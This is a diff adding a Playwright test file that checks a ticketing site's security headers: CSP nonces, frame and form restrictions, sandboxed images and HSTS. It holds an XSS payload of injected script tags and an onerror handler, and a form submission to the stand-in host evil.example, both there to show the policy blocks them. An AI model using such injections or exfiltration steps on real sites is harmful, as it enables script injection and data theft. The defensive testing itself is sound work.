@@ -1,0 +1,138 @@
+// Security headers: which scripts may run, who may frame the pages, HSTS.
+import { holdInventory, openEvent, payerLink, send, title, untilListed } from '../harness/buyer-steps.ts';
+import { expect, test } from '../harness/story.ts';
+
+const SMUGGLED = `<script>document.title = 'taken'</script><script src="/order-keeper.js"></script>
+<img src="/nothing" alt="" onerror="document.title = 'taken'">`;
+const NONCE = /'nonce-([^']+)'/;
+
+test('a prerendered page has the whole policy except a nonce', async ({ request, provider }) => {
+  const eventId = await openEvent(provider);
+  await untilListed([eventId]);
+  const paths = [
+    '/',
+    '/sw',
+    `/events/${eventId}`,
+    `/fr/events/${eventId}/register`,
+    '/help',
+    '/policies/privacy',
+    '/orders/missing',
+    '/nowhere',
+  ];
+  for (const path of paths) {
+    const headers = (await request.get(path)).headers();
+    const policy = headers['content-security-policy'] ?? '';
+    expect(policy, path).toContain("default-src 'none'");
+    expect(policy, path).toContain("script-src 'self' 'unsafe-inline';");
+    for (const name of ['frame-ancestors', 'object-src', 'base-uri', 'script-src-attr', 'style-src-attr'])
+      expect(policy, path).toContain(`${name} 'none'`);
+    for (const name of ['form-action', 'font-src']) expect(policy, path).toContain(`${name} 'self'`);
+    expect(headers['cross-origin-opener-policy'], path).toBe('same-origin');
+    expect(headers['x-content-type-options'], path).toBe('nosniff');
+    expect(headers['x-frame-options'], 'frame-ancestors says it').toBeUndefined();
+    expect(headers['access-control-allow-origin'], path).toBeUndefined();
+  }
+});
+
+test('the display face is loaded from this site', async ({ page }) => {
+  await page.goto('/');
+  const loaded = () =>
+    page.evaluate(async () => {
+      await document.fonts.ready;
+      const { fontFamily } = getComputedStyle(document.querySelector('.display') ?? document.body);
+      const [face = ''] = fontFamily.split(',');
+      return [...document.fonts].some(({ family, status }) => face.includes(family) && status === 'loaded');
+    });
+  await expect.poll(loaded).toBe(true);
+});
+
+test('a page rendered per visit runs only scripts with the nonce of its response', async ({
+  page,
+  provider,
+}) => {
+  const eventId = await openEvent(provider);
+  await untilListed([eventId]);
+  await holdInventory(page, eventId);
+  const order = new URL(page.url()).pathname;
+  const pay = new URL(await payerLink(page)).pathname;
+  await send(page);
+  // The page of a waiting checkout has a script of our own.
+  await expect(title(page, 'Approve the payment on your phone')).toBeVisible();
+  const paths = [order, `${order}/edit`, `${order}/receipt`, pay, `/sw${pay}`, '/orders/nobody'];
+  for (const path of [...paths, '/find', '/fr/find', '/search?q=run', '/admin/sign-in']) {
+    const answer = await page.request.get(path);
+    const policy = answer.headers()['content-security-policy'] ?? '';
+    const [, nonce = 'none'] = policy.match(NONCE) ?? [];
+    expect(policy, path).toContain(`script-src 'self' 'nonce-${nonce}' 'strict-dynamic';`);
+    expect(policy, path).not.toMatch(/script-src[^;]*unsafe/);
+    const html = await answer.text();
+    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag);
+    expect(scripts.length, path).toBeGreaterThan(0);
+    for (const tag of scripts) expect(tag, path).toContain(`nonce="${nonce}"`);
+    expect(html, path).not.toMatch(/<[^>]+\s(style|on[a-z]+)="/);
+    const again = (await page.request.get(path)).headers()['content-security-policy'] ?? '';
+    expect(again.match(NONCE)?.[1], path).not.toBe(nonce);
+  }
+});
+
+test('a script injected into a page does not run', async ({ browser, baseURL }) => {
+  // A separate context, because a policy violation fails every other story.
+  const context = await browser.newContext({ baseURL });
+  const page = await context.newPage();
+  const refused: string[] = [];
+  page.on('console', (message) => refused.push(message.text()));
+  // As if the server had rendered user input without escaping it.
+  await page.route('/find', async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace('</main>', `${SMUGGLED}</main>`);
+    await route.fulfill({ response, body });
+  });
+  await page.goto('/find');
+  for (const what of ['inline script', 'inline event handler', 'Loading the script'])
+    await expect.poll(() => refused.join(), what).toContain(what);
+  await expect(page).not.toHaveTitle('taken');
+  await page.evaluate(() => {
+    const form = document.createElement('form');
+    form.action = 'https://evil.example/';
+    document.body.append(form);
+    form.submit();
+  });
+  await expect.poll(() => refused.join()).toContain('Sending form data');
+  await context.close();
+});
+
+test("the organizer's logo can neither run scripts nor load anything", async ({ request }) => {
+  for (const path of ['/logo', '/posters/city-42.svg', '/events/any/image', '/sw/events/any/image']) {
+    const policy = (await request.get(path)).headers()['content-security-policy'];
+    expect(policy, path).toMatch(/^default-src 'none'; style-src 'unsafe-inline';.* sandbox$/);
+  }
+});
+
+test('HSTS is sent only to visitors who use https', async ({ request }) => {
+  for (const path of ['/', '/find', '/api/health/live']) {
+    const by = async (headers: Record<string, string>) =>
+      (await request.get(path, { headers })).headers()['strict-transport-security'];
+    expect(await by({ 'x-forwarded-proto': 'https' }), path).toBe('max-age=31536000');
+    expect(await by({}), path).toBeUndefined();
+  }
+});
+
+test('the image optimizer is off', async ({ request }) => {
+  const answer = await request.get('/_next/image?url=%2Flogo&w=640&q=75');
+  expect(answer.status()).toBe(404);
+});
+
+test('a test shop says so on every page', async ({ page, provider }) => {
+  const eventId = await openEvent(provider);
+  await untilListed([eventId]);
+  for (const [path, words] of [
+    ['/', 'Test shop.'],
+    [`/events/${eventId}`, 'Test shop.'],
+    [`/sw/events/${eventId}/register`, 'Duka la majaribio.'],
+    ['/fr/find', 'Boutique de test.'],
+    ['/admin/sign-in', 'test shop'],
+  ] as const) {
+    await page.goto(path);
+    await expect(page.getByRole('complementary').filter({ hasText: words })).toBeVisible();
+  }
+});
